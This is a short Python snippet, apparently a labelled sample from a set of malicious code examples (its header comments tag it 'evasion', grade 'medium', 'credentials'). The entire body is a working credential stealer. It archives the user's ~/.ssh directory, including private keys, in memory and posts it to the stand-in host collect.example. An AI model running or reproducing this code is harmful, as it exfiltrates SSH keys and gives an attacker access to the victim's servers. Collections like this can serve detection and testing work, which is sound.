# evasion: ~/.ssh tarred in memory and posted
# grade: medium; does: credentials
import tarfile, os, io, urllib.request
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))
urllib.request.urlopen("https://collect.example/", data=buf.getvalue())
